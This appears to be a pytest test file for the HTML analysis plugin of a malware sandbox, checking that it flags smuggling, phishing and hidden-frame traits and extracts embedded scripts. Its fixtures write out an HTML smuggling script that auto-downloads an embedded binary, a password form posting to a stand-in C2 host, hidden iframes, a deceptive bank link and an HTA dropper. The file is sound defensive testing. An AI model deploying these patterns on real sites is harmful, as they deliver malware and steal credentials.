"""What a page would do to its visitor."""

import base64
import contextlib
from pathlib import Path
from typing import Any

import pytest

from malbox.sdk import PluginFailure, PluginSkipped, embedded_scripts
from malbox.sdk.cpu_budget import cpu_budget
from malbox.sdk.findings import Findings
from malbox.sdk.links import deceives
from malbox.sdk.testing import Emitted, run_plugin
from services.plugins.builtin.html import page, plugin
from services.plugins.builtin.scripts import plugin as scripts
from tests.unit.plugins import pe_files
from tests.unit.plugins.conftest import MakeSample
from tests.unit.plugins.mutations import mutations

BLOB = b"MZ" + bytes(range(256)) * 4
SMUGGLED = (
    "<html><body><script>var d = '" + base64.b64encode(BLOB).decode() + "';"
    "var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);"
    "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'a.iso'; a.click();"
    "</script></body></html>"
).encode()
LOGIN = '<form action="%s" method="post"><input name="u"><input type="password" name="p"></form>'


def html(inside: str) -> bytes:
    return f"<!doctype html><html><head><title>Hello</title></head><body>{inside}</body></html>".encode()


def read(sample: Path, scratch: Path) -> Emitted:
    return run_plugin(plugin.run, sample, scratch=scratch)


def traits(said: Any) -> set[str]:
    return {one["name"] for one in said["traits"]}


def test_a_file_that_the_page_builds_comes_out(make_sample: MakeSample, tmp_path: Path) -> None:
    """Smuggling is seen, and what is smuggled is a child."""
    emitted = read(make_sample(SMUGGLED), tmp_path)
    said = emitted.json("html")
    assert traits(said) == {"html_smuggling"}
    assert emitted.content[said["children"][0]["name"]] == BLOB


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        (html(LOGIN % "https://c2.example/p.php"), "html_asks_password"),
        (html('<iframe src="http://c2.example/" width="1" height="1"></iframe>'), "html_hidden_frame"),
        (html('<iframe src="http://c2.example/" style="display: none"></iframe>'), "html_hidden_frame"),
        (html('<a href="https://c2.example/">www.bank.example</a>'), "link_deceives"),
    ],
)
def test_what_a_page_would_do_is_a_trait(content: bytes, trait: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """Each in a page that does nothing else."""
    assert traits(read(make_sample(content), tmp_path).json("html")) == {trait}


@pytest.mark.parametrize(
    "content",
    [
        html("<p>hello <a href='https://a.example/x'>a.example</a></p><script>console.log(1)</script>"),
        html(LOGIN % "/login"),
        html('<iframe src="https://a.example/video" width="640" height="360"></iframe>'),
        html("<script>var b = new Blob(['x']); show(URL.createObjectURL(b));</script>"),
        html('<img src="data:image/png;base64,AAAA">'),
    ],
)
def test_an_ordinary_page_has_no_trait(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control of the traits: links, forms of one's own, videos, blobs that stay in the page, pictures."""
    said = read(make_sample(content), tmp_path).json("html")
    assert (said["traits"], said["problems"], said["children"]) == ([], [], [])


def test_elements_and_urls_are_listed(make_sample: MakeSample, tmp_path: Path) -> None:
    """Scripts, those in attributes too, redirects and the file in a data URI."""
    emitted = read(
        make_sample(
            html(
                '<meta http-equiv="refresh" content="0; url=http://c2.example/r"><script src="//cdn.example/x.js">'
                '</script><img onerror="alert(1)"><a href="data:text/html;base64,aGVsbG8=">x</a>'
                '<a href="javascript:alert(2)">y</a>'
            )
        ),
        tmp_path,
    )
    said = emitted.json("html")
    assert said["title"] == "Hello"
    assert [one["text"] for one in said["scripts"]] == ["", "alert(1)", "javascript:alert(2)"]
    assert said["redirects"] == ["http://c2.example/r"]
    assert {"c2.example", "cdn.example"} <= {one["value"] for one in said["indicators"]}
    assert emitted.content["children/0001"] == b"hello"


@pytest.mark.parametrize(
    ("shown", "target", "is_false"),
    [
        ("www.bank.example", "https://c2.example/", True),
        ("https://bank.example/login", "http://bank.example.c2.example/", True),
        ("bank.example", "https://www.bank.example/", False),
        ("login.bank.example", "https://bank.example/", False),
        ("click here", "https://c2.example/", False),
        ("bank.example", "mailto:a@c2.example", False),
    ],
)
def test_a_link_deceives_when_it_shows_another_host(shown: str, target: str, is_false: bool) -> None:  # noqa: FBT001
    """A host below or above the one that is shown is no deceit."""
    assert deceives(shown, target) == is_false


@pytest.mark.promise("P38")
@pytest.mark.parametrize(
    "content",
    [
        b"<html>" + b"<div>" * 100_000,
        b"<html>" + b"<a href=x>" * 100_000,
        b"<html><script>" + b"A" * 2_000_000 + b"</script>",
        b"<html><p " + b"a=b " * 100_000 + b">",
        b"<html><!--" + b"-" * 1_000_000,
        b"<html>" + b"&" * 300_000,
    ],
    ids=["deep", "links", "letters", "attributes", "a comment", "entities"],
)
def test_a_page_without_end_is_cut(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Depth, numbers and lengths end at a bound."""
    said = read(make_sample(content), tmp_path).json("html")
    assert len(said["links"]) <= page.LISTED_MAX
    assert len(str(said)) < 400_000


def test_other_files_are_skipped(make_sample: MakeSample, tmp_path: Path) -> None:
    """Not an error: there is nothing to do."""
    for content in (b"hello", b"MZ <html>", b"From: a\r\nTo: b\r\n\r\n<html>"):
        with pytest.raises(PluginSkipped):
            read(make_sample(content), tmp_path)


@pytest.mark.parametrize("content", [SMUGGLED, html(LOGIN % "https://c2.example/")])
def test_a_damaged_page_is_read_as_far_as_it_goes(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Cut and flipped in many places."""
    for damaged in mutations(content, 200, "html"):
        with contextlib.suppress(PluginFailure, PluginSkipped):
            assert len(read(make_sample(damaged), tmp_path).json("html")["scripts"]) <= page.LISTED_MAX


LONG = "x = 'a script that is long enough to hide something behind a layer'"


def scripts_of(emitted: Emitted) -> dict[str, bytes]:
    """What is handed out of the page's scripts, by name."""
    found = emitted.json("html")["children"]
    return {one["path"].rpartition(" > ")[2]: emitted.content[one["name"]] for one in found if " > " in one["path"]}


@pytest.mark.parametrize(
    ("content", "name", "script"),
    [
        (html(f"<script>{LONG}</script>"), "scripts.js", LONG),
        (html(f'<script language="VBScript">{LONG}</script>'), "scripts.vbs", LONG),
        (html(f'<script language="JScript.Encode">{LONG}</script>'), "scripts.jse", LONG),
        (html(f'<script type="text/vbscript.encode">{LONG}</script>'), "scripts.vbe", LONG),
        (f"<hta:application><script><!--\n{LONG}\n//--></script>".encode(), "scripts.js", f"{LONG}\n//"),
        (
            f'<job><script language="VBScript"><![CDATA[\n{LONG}\n]]></script></job>'.encode(),
            "scripts.vbs",
            LONG,
        ),
        (html(f'<p onload="{LONG}">'), "scripts.js", LONG),
        (html(f'<a href="vbscript:{LONG}">x</a>'), "scripts.vbs", f"vbscript:{LONG}"),
        (html(f"<script>a = 1</script><script>{LONG}</script><script>a = 1</script>"), "scripts.js", f"a = 1\n{LONG}"),
    ],
)
def test_the_scripts_of_a_page_come_out(
    content: bytes, name: str, script: str, make_sample: MakeSample, tmp_path: Path
) -> None:
    """One file for each language, without what the page wraps around them, for a plugin for scripts to unfold."""
    assert scripts_of(read(make_sample(content), tmp_path)) == {name: script.encode()}


@pytest.mark.parametrize(
    "content",
    [
        html("<script>alert(1)</script>"),
        html(f'<script type="application/json">{LONG}</script>'),
        html(f'<script type="text/template">{LONG}</script>'),
    ],
    ids=["short", "data", "a template"],
)
def test_what_hides_nothing_or_does_not_run_is_no_child(
    content: bytes, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Control: a short script is shown whole, and what no engine runs is data."""
    assert read(make_sample(content), tmp_path).json("html")["children"] == []


def test_an_encoded_program_in_an_hta_is_found_by_the_plugin_for_scripts(
    make_sample: MakeSample, tmp_path: Path
) -> None:
    """The chain of a dropper: the page hands out its script, the script the program."""
    program = pe_files.Portable().build()
    dropper = f'<hta:application><script language="VBScript">x = "{base64.b64encode(program).decode()}"</script>'
    emitted = read(make_sample(dropper.encode()), tmp_path)
    script = make_sample(scripts_of(emitted)["scripts.vbs"])
    unfolded = run_plugin(scripts.run, script, scratch=tmp_path, sample_name="scripts.vbs")
    assert unfolded.content["children/0001"] == program


def test_more_scripts_than_are_handed_out_are_counted(
    make_sample: MakeSample, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The bound is told, with how many it cost."""
    monkeypatch.setattr(embedded_scripts, "TOGETHER_MAX_CHARS", 100)
    pieces = "".join(f"<script>{LONG + str(number)}</script>" for number in range(4))
    said = read(make_sample(html(pieces)), tmp_path).json("html")
    assert said["is_truncated"]
    assert said["problems"] == ["scripts that are not handed out, for there are more than 100 characters: 3"]


def test_many_small_scripts_cost_no_more_than_their_number() -> None:
    """A page of handlers would otherwise use up the time in which the rest of it is read."""
    scripts = embedded_scripts.EmbeddedScripts(Findings())
    with cpu_budget(2.0) as time:
        for number in range(20_000):
            scripts.add("js", f"f({number})")
    assert not time.is_spent
